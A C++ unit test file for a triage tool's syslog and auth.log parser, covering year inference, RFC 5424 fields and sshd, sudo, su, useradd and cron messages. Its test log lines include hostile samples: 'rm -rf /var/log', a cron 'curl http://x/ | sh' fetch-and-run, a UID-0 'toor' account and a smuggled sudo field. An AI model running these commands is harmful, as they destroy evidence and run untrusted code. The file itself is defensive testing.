// SPDX-License-Identifier: Apache-2.0
#include "triage/logs/syslog.h"

#include "tests/unit/triage/logs/read_all_of.h"

#include <gmock/gmock.h>

namespace firsthour::triage::logs {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;
using testing::SizeIs;

TEST(Syslog, HasTimeHostProgramPidAndMessage) {
  const ReadAll read = read_all_of("Nov 22 13:37:06 web1 nginx[812]: worker died\n", "syslog", at_beijing());
  ASSERT_THAT(read.entries, SizeIs(1));
  const ReadEntry& entry = read.entries[0];
  EXPECT_EQ(entry.time, "2026-11-22T05:37:06.000000000Z");
  EXPECT_EQ(entry.basis, TimeBasis::year_inferred);
  EXPECT_EQ(entry.host, "web1");
  EXPECT_EQ(entry.program, "nginx");
  EXPECT_EQ(entry.pid, 812);
  EXPECT_EQ(entry.message, "worker died");
  EXPECT_EQ(read.summary.zone, "assumed +08:00 from the test");
}

TEST(Syslog, KeepsWholeTextWhereThereIsNoTag) {
  const auto parsed = parse_syslog("Nov  3 01:02:03 web1 last message repeated 3 times");
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->program, "");
  EXPECT_EQ(parsed->message, "last message repeated 3 times");
}

TEST(Syslog, ReadsRfc5424WithStructuredData) {
  const auto parsed = parse_syslog(
      "<165>1 2026-11-22T05:37:06.123456+08:00 web1 app 12 ID47 [a@1 k=\"x ] \\\" y\"][b@1 z=\"1\"] "
      "\xEF\xBB\xBFtext [1]");
  ASSERT_TRUE(parsed);
  EXPECT_EQ(parsed->host, "web1");
  EXPECT_EQ(parsed->program, "app");
  EXPECT_EQ(parsed->pid, 12);
  EXPECT_EQ(parsed->message_id, "ID47");
  EXPECT_EQ(parsed->structured_data, "[a@1 k=\"x ] \\\" y\"][b@1 z=\"1\"]");
  EXPECT_EQ(parsed->message, "text [1]");
  EXPECT_EQ(syslog_facility(*parsed->priority), "local4");
  EXPECT_EQ(syslog_severity(*parsed->priority), "notice");
}

TEST(Syslog, IsoStampsSayTheirZone) {
  const ReadAll read =
      read_all_of("2026-11-22T13:37:06.123456+08:00 web1 sshd[1]: x\n", "auth.log", at_beijing());
  ASSERT_THAT(read.entries, SizeIs(1));
  EXPECT_EQ(read.entries[0].time, "2026-11-22T05:37:06.123456000Z");
  EXPECT_EQ(read.entries[0].basis, TimeBasis::stated);
  EXPECT_EQ(read.summary.zone, "");
}

TEST(Syslog, YearIsCountedBackFromTheFilesLastChange) {
  const ReadAll read = read_all_of(
      "Dec 30 10:00:00 h a: 1\nDec 31 23:59:59 h a: 2\nJan  1 00:00:01 h a: 3\nJan  2 00:00:00 h a: 4\n",
      "messages", at_beijing("2026-01-05T00:00:00Z"));
  ASSERT_THAT(read.entries, SizeIs(4));
  EXPECT_EQ(read.entries[0].time.substr(0, 4), "2025");
  EXPECT_EQ(read.entries[1].time, "2025-12-31T15:59:59.000000000Z");
  EXPECT_EQ(read.entries[2].time, "2025-12-31T16:00:01.000000000Z");
  EXPECT_EQ(read.entries[3].time.substr(0, 4), "2026");
  EXPECT_EQ(read.summary.year_steps, 1u);
  EXPECT_EQ(read.summary.backwards, 0u);
}

TEST(Syslog, LastEntryIsNeverLaterThanTheFile) {
  const ReadAll read =
      read_all_of("Dec 30 10:00:00 h a: 1\n", "messages", at_beijing("2026-11-23T00:00:00Z"));
  EXPECT_EQ(read.entries.at(0).time.substr(0, 4), "2025");
}

TEST(Syslog, DayInTheNameOfARotatedFileSaysTheYearToo) {
  LogHints hints;
  hints.modified = parse_rfc3339("2026-11-23T00:00:00Z");  // copied later
  const ReadAll read = read_all_of("Nov 20 10:00:00 h a: 1\n", "/var/log/messages-20241121.gz", hints);
  EXPECT_EQ(read.entries.at(0).time.substr(0, 4), "2024");
}

TEST(Syslog, WithoutAnythingToCountFromThereIsNoTime) {
  const ReadAll read = read_all_of("Nov 20 10:00:00 h a: 1\n", "messages");
  EXPECT_EQ(read.entries.at(0).basis, TimeBasis::none);
  EXPECT_EQ(read.entries.at(0).message, "1");
}

TEST(Syslog, LeapDayFindsALeapYear) {
  const ReadAll read =
      read_all_of("Feb 29 10:00:00 h a: 1\n", "messages", at_beijing("2026-11-23T00:00:00Z"));
  EXPECT_EQ(read.entries.at(0).time.substr(0, 10), "2024-02-29");
}

TEST(Syslog, StepsBackInTimeAreCountedAndTold) {
  const ReadAll read = read_all_of(
      "Nov 22 10:00:00 h a: 1\nNov 22 12:00:00 h a: 2\nNov 22 09:00:00 h a: 3\nNov 22 09:00:05 h a: 4\n",
      "messages", at_beijing());
  EXPECT_EQ(read.summary.backwards, 1u);
  EXPECT_EQ(read.summary.longest_backwards_seconds, 3 * 3600);
  EXPECT_EQ(read.summary.longest_gap_seconds, 2 * 3600);
  ASSERT_THAT(read.derived, SizeIs(1));
  EXPECT_EQ(read.derived[0].service, "log_file");
  EXPECT_EQ(read.derived[0]["log.time_backwards"], "1");
  EXPECT_EQ(read.derived[0]["log.gap_from"], "2026-11-22T02:00:00.000000000Z");
}

TEST(Syslog, LinesWithoutAStampAreKeptAndNamed) {
  const ReadAll read = read_all_of("Nov 22 10:00:00 h a: 1\nNov 22 10:00:01 h a: 2\nrm -rf /var/log\n",
                                   "messages", at_beijing());
  ASSERT_THAT(read.entries, SizeIs(3));
  EXPECT_EQ(read.entries[2].message, "rm -rf /var/log");
  EXPECT_EQ(read.summary.losses, 1u);
  EXPECT_EQ(read.summary.first_losses.at(0).line, 3u);
  EXPECT_EQ(read.summary.first_losses.at(0).offset, 46u);
}

struct AuthCase {
  const char* message;
  std::map<std::string, std::string> fields;
};

TEST(AuthMessages, AreTakenApart) {
  const std::vector<AuthCase> cases{
      {"sshd[1]: Accepted publickey for root from 203.0.113.5 port 50122 ssh2: ED25519 SHA256:abc",
       {{"auth.result", "accepted"},
        {"auth.method", "publickey"},
        {"user.name", "root"},
        {"source.ip", "203.0.113.5"},
        {"source.port", "50122"},
        {"key.fingerprint", "SHA256:abc"}}},
      {"sshd[1]: Failed password for invalid user admin from 203.0.113.5 port 1 ssh2",
       {{"auth.result", "failed"},
        {"user.name", "admin"},
        {"user.unknown", "true"},
        {"source.ip", "203.0.113.5"}}},
      {"sshd[1]: Failed password for root from 2001:db8::1 port 22 ssh2",
       {{"user.name", "root"}, {"source.ip", "2001:db8::1"}}},
      {"sshd[1]: Invalid user x from 10.9.9.9 port 1 from 203.0.113.5 port 22",
       {{"user.name", "x from 10.9.9.9 port 1"}, {"source.ip", "203.0.113.5"}}},
      {"sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
       "rhost=203.0.113.5  user=bob",
       {{"auth.result", "failed"}, {"source.ip", "203.0.113.5"}, {"user.name", "bob"}}},
      {"sshd[1]: pam_unix(sshd:session): session opened for user bob(uid=1000) by (uid=0)",
       {{"auth.result", "session_opened"}, {"user.name", "bob"}}},
      {"sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh -c a ; USER=x",
       {{"user.name", "bob"},
        {"USER", "root"},
        {"PWD", "/home/bob"},
        {"TTY", "pts/0"},
        {"COMMAND", "/bin/sh -c a ; USER=x"},
        {"auth.result", "accepted"}}},
      {"sudo:  eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/id",
       {{"auth.result", "failed"}, {"auth.reason", "user NOT in sudoers"}, {"COMMAND", "/bin/id"}}},
      {"su[9]: (to root) bob on pts/0",
       {{"user.name", "root"}, {"source.user.name", "bob"}, {"TTY", "pts/0"}}},
      {"useradd[7]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
       {{"account.action", "user_added"},
        {"user.name", "toor"},
        {"user.id", "0"},
        {"user.shell", "/bin/bash"}}},
      {"usermod[7]: add 'bob' to group 'sudo'",
       {{"account.action", "added_to_group"}, {"user.name", "bob"}, {"group.name", "sudo"}}},
      {"CRON[12]: (root) CMD (curl http://x/ | sh)",
       {{"user.name", "root"}, {"command_line", "curl http://x/ | sh"}}},
  };
  for (const AuthCase& one : cases) {
    const ReadAll read =
        read_all_of("Nov 22 10:00:00 h " + std::string{one.message} + "\n", "auth.log", at_beijing());
    ASSERT_THAT(read.entries, SizeIs(1)) << one.message;
    for (const auto& [key, value] : one.fields)
      EXPECT_EQ(read.entries[0][key], value) << one.message << ' ' << key;
  }
}

TEST(AuthMessages, ServicesAreSigmas) {
  const ReadAll read = read_all_of(
      "Nov 22 10:00:00 h sshd[1]: x\nNov 22 10:00:00 h sudo: x\nNov 22 10:00:00 h CRON[1]: x\nNov 22 "
      "10:00:00 h foo: x\n",
      "/var/log/auth.log.1", at_beijing());
  std::vector<std::string> services;
  for (const ReadEntry& entry : read.entries) services.push_back(entry.service + "/" + entry.wider);
  EXPECT_THAT(services, ElementsAre("sshd/auth", "sudo/auth", "cron/auth", "syslog/auth"));
}

TEST(AuthMessages, NearMissesGetNoFields) {
  for (const char* message :
       {"sshd[1]: Acceptedx", "sudo: bob", "su: (to", "useradd: new user", "CRON[1]: ("}) {
    const ReadAll read =
        read_all_of("Nov 22 10:00:00 h " + std::string{message} + "\n", "auth.log", at_beijing());
    EXPECT_EQ(read.entries.at(0)["user.name"], "") << message;
  }
}

}  // namespace
}  // namespace firsthour::triage::logs
